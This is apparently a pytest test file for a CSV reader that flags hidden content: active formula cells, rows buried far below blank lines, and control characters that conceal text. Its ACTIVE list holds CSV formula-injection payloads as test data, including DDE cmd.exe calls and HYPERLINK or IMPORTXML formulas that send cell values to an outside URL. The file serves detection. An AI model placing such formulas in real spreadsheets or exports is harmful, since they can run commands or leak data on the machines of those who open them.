"""What a table in plain text can hide, and the many ordinary things that must not alarm."""

import codecs
import csv
from typing import BinaryIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from foidesk.findings.codes import Code
from foidesk.opening.file import File
from foidesk.opening.limits import Limits, Unreadable
from foidesk.sheets.csv import reader

Found = set[tuple[Code, str, int]]


def found(data: bytes) -> Found:
    return {(one.code, one.where, one.count) for one in reader.findings(File("x.csv", data=data))}


def columns(data: bytes) -> list[tuple[str, str, str]]:
    return [(p.where, p.heading, p.text) for p in reader.passages(File("x.csv", data=data))]


ACTIVE = [
    "=cmd|'/C calc'!A0",
    "=MSEXCEL|'\\..\\cmd.exe'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("https://example.org/?"&A1,"more")',
    "=webservice(A1)",
    '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
    '=IFERROR(DDE("soffice","x","y"),1)',
    " =CALL(1)",
]


@pytest.mark.parametrize("cell", ACTIVE)
def test_a_cell_that_would_be_run_is_a_macro(cell: str) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    assert found(f"name,note\nAnn,{quoted}\n".encode()) == {(Code.MACRO, "", 1)}


ORDINARY = [
    "-12.50",
    "+44 1632 960123",
    "@marlshire",
    "=SUM(B1:B9)",
    '="00123"',
    "- see the link | note!",
    "'=HYPERLINK(A1)",
    "-",
    "=",
    "ann@example.org",
    "- call (ring) back",
    "-1 | no! Never",
    "we pay = 3|4 !A1",
    "HYPERLINK(A1)",
    "Smith, \x0b Ann",
]


@pytest.mark.parametrize("cell", ORDINARY)
def test_an_ordinary_cell_gives_nothing(cell: str) -> None:
    quoted = '"' + cell.replace('"', '""') + '"'
    assert found(f"name,note\nAnn,{quoted}\n".encode()) == set()


TEXT = "name;café\nZoë;“ten” €\n"


@pytest.mark.parametrize(
    "data",
    [
        TEXT.encode(),
        TEXT.encode("utf-8-sig"),
        TEXT.encode("utf-16"),
        codecs.BOM_UTF16_BE + TEXT.encode("utf-16-be"),
        TEXT.encode("utf-16-le"),
        TEXT.encode("utf-16-be"),
        TEXT.encode("cp1252"),
        TEXT.encode("utf-32"),
        TEXT.replace("\n", "\r\n").encode(),
        TEXT.replace("\n", "\r").encode(),
        TEXT.replace(";", "\t").encode(),
        TEXT.replace(";", "|").encode(),
        TEXT.replace(";", ",").encode(),
        b"sep=;\n" + TEXT.encode(),
    ],
    ids=[
        "utf-8",
        "mark",
        "utf-16",
        "utf-16 be",
        "le",
        "be",
        "cp1252",
        "utf-32",
        "crlf",
        "cr",
        "tab",
        "bar",
        "comma",
        "sep",
    ],
)
def test_encodings_and_separators_are_told_by_content(data: bytes) -> None:
    said = [one for one in columns(data) if not one[1].startswith("sep=")]
    assert said[-1] == ("column B", "café", "café\n“ten” €")
    assert found(data) == set()


def test_quotes_hold_separators_and_line_breaks() -> None:
    assert columns(b'a,b\n"x,\ny","say ""no"""\n') == [
        ("column A", "a", "a\nx,\ny"),
        ("column B", "b", 'b\nsay "no"'),
    ]


@pytest.mark.parametrize("elsewhere", [131_072, 10_000_000])
def test_a_quotation_mark_that_is_never_closed_is_a_letter(elsewhere: int) -> None:
    csv.field_size_limit(elsewhere)
    data = b"size,name\n" + b'5,Ann\n"6,Bob\n' + b"7,Cem\n" * 40_000
    assert columns(data)[1][2].startswith("name\nAnn\nBob\nCem")


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (
            b"a,b\n1,2\n" + b"\n" * 5000 + b"Ann,PC 1\nBob,PC 2\n",
            {(Code.HIDDEN_ROWS, "lines 5003 to 5004", 2)},
        ),
        (b"a,b\n" + b",\n" * 5000 + b"Ann,PC 1\n", {(Code.HIDDEN_ROWS, "line 5002", 1)}),
        (b"a,b\n" + b"\n" * 500 + b"Ann,PC 1\n", set()),
        (b"a,b\n1,2\n" + b"\n" * 5000, set()),
        (b"\n" * 5000 + b"a,b\n1,2\n", set()),
        (b'a,b\n1,"' + b"\n" * 5000 + b'end"\n3,4\n', set()),
    ],
    ids=[
        "far below",
        "far below commas",
        "near: 500 lines",
        "near: only blank",
        "near: at the top",
        "near: in quotes",
    ],
)
def test_rows_far_below(data: bytes, expected: Found) -> None:
    assert found(data) == expected


@pytest.mark.parametrize(
    ("line", "told"),
    [
        (b"Ann\x1b[8m PC 1\x1b[0m,2", True),
        (b"PC 1\x08\x08\x08\x08,2", True),
        (b"Ann\0 PC 1,2", True),
        (b"Ann\tB,2", False),
        ("Ann\u200b,2\u00a0".encode(), False),
        (b"Ann,2\x1a", False),
        (b"\0" * 512, False),
    ],
)
def test_signs_that_hide_words_on_a_screen(line: bytes, told: bool) -> None:
    expected = {(Code.HIDDEN_TEXT, "", 1)} if told else set()
    assert found(b"name,number\nBob,1\n" * 10 + line + b"\n") == expected


def test_a_very_long_line_and_many_columns_are_read() -> None:
    assert found(b"a," * 500_000 + b"\n") == set()
    (one,) = columns(b"x" * 2_000_000)
    assert len(one[2]) == 2_000_000
    assert columns(b"a," * 20_000)[-1][0] == "column XFD"


def test_what_is_no_text_is_not_examined() -> None:
    with pytest.raises(Unreadable) as why:
        found(b"\xff\xfea\0b\0\x00\xd8" + b"a\0" * 9)
    assert why.value.code is Code.UNREADABLE


def test_an_empty_file_has_no_words() -> None:
    assert columns(b"") == []
    assert found(b"") == set()
    assert list(reader.inside(File("x.csv", data=b""))) == []


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=400) | st.text(max_size=200).map(str.encode))
def test_bytes_of_any_kind_give_an_answer(data: bytes) -> None:
    try:
        found(data)
        columns(data)
    except Unreadable as why:
        assert why.code is Code.UNREADABLE


def test_more_words_than_are_searched_are_told_and_not_left_out() -> None:
    rows = "name,note\n" + "Wendy,none\n" * 100
    assert len(list(reader.passages(File("x.csv", data=rows.encode(), limits=Limits(text=len(rows)))))) == 2
    with pytest.raises(Unreadable, match="the most that is searched"):
        list(reader.passages(File("x.csv", data=rows.encode(), limits=Limits(text=len(rows) - 10))))


def test_what_lies_beyond_the_widest_sheet_is_in_its_last_column() -> None:
    last = columns(("a," * 20_000 + "secret").encode())[-1]
    assert (last[0], last[2][-6:], last[2].count("a")) == ("column XFD", "secret", 20_000 - 16_383)


class Opened(File):
    """A file, and how often it was opened."""

    times = 0

    def open(self) -> BinaryIO:
        type(self).times += 1
        return super().open()


def test_a_quote_that_never_ends_is_read_once_more_and_not_for_each_row() -> None:
    data = b'a,b,c\n"open,2,3\n' + b"x,some words here,3\n" * 20_000
    (first, second, third) = reader.passages(Opened("x.csv", data=data))
    assert [len(column.text.split("\n")) for column in (first, second, third)] == [20_002] * 3
    assert Opened.times <= 5
